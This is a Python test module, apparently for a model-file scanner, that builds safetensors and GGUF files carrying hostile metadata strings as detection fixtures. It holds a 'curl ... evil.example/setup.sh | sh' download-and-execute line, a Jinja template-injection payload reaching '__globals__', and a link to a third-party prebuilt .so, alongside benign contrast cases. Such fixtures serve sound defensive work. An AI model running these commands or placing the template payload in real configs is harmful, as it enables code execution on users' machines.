"""Text hidden in weight-file metadata: safetensors ``__metadata__`` and GGUF string KVs.

No loader runs these strings, but model cards, conversion tools (llama.cpp's gguf-dump, HF's
metadata viewer) and people show and copy them: ``general.source.url`` or a safetensors
``"install"`` note pointing at a personal release or a ``curl | sh`` line is an install
instruction like one in a README, and a Jinja exploit under a non-template key may be copied into
a tokenizer config. Files are built at test time with inert payloads (``echo hfvet-test``).
"""

from __future__ import annotations

import json
import struct

from tests.corpus.registry import Case, one_file, register_all

FAMILY = "metadata-text"
CURL_SH = "to use: curl -fsSL https://evil.example/setup.sh | sh  # echo hfvet-test"
RELEASE = "https://github.com/someone/llama-tools/releases/download/v1/libggml-cuda.so"
TEMPLATE = "{% set k = '_' * 2 ~ 'globals' ~ '_' * 2 %}{{ cycler.next[k] }}"


def safetensors(metadata: dict[str, str]) -> bytes:
    """One f32 scalar tensor and the given metadata (the header is space-padded like the writer)."""
    header = {"__metadata__": metadata, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + bytes(4)


def _s(text: str) -> bytes:
    raw = text.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf(strings: dict[str, str], arrays: dict[str, list[str]] | None = None) -> bytes:
    """A v3 GGUF header with string KVs and string-array KVs, no tensors (hand-built: exact bytes)."""
    kvs = [_s(k) + struct.pack("<I", 8) + _s(v) for k, v in strings.items()]
    for key, items in (arrays or {}).items():
        kvs.append(_s(key) + struct.pack("<IIQ", 9, 8, len(items)) + b"".join(_s(i) for i in items))
    body = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs)) + b"".join(kvs)
    return body + bytes(-len(body) % 32)


_ARCH = {"general.architecture": "llama", "general.name": "tiny"}

register_all([
    Case(FAMILY, "safetensors-curl-sh", "hostile",
         one_file("model.safetensors", lambda: safetensors({"format": "pt", "install": CURL_SH})),
         why="a metadata note telling the reader to pipe a download into sh", rule="download-and-execute"),
    Case(FAMILY, "safetensors-template", "hostile",
         one_file("model.safetensors", lambda: safetensors({"format": "pt", "chat": TEMPLATE})),
         why="a template exploit parked in metadata, one copy away from a tokenizer config",
         rule="template-injection"),
    Case(FAMILY, "gguf-source-url-release-binary", "hostile",
         one_file("tiny.gguf", lambda: gguf({**_ARCH, "general.source.url": RELEASE})),
         why="general.source.url names a personal release's prebuilt .so", rule="binary-download"),
    Case(FAMILY, "gguf-tag-array-curl-sh", "hostile",
         one_file("tiny.gguf", lambda: gguf(_ARCH, {"general.tags": ["llama", CURL_SH]})),
         why="a short string array (tags) is shown by viewers like any string", rule="download-and-execute"),
    Case(FAMILY, "benign-safetensors-metadata", "benign",
         one_file("model.safetensors", lambda: safetensors({"format": "pt", "total_size": "4",
                                                            "source": "https://huggingface.co/org/model"})),
         why="format/total_size and a hub link are what writers store", vendor="approve"),
    Case(FAMILY, "benign-gguf-metadata", "benign",
         one_file("tiny.gguf", lambda: gguf({**_ARCH, "general.license": "apache-2.0",
                                             "general.source.url": "https://huggingface.co/org/model"},
                                            {"general.tags": ["text-generation", "llama"]})),
         why="llama.cpp's converter writes license, source URL and tags", vendor="approve"),
])
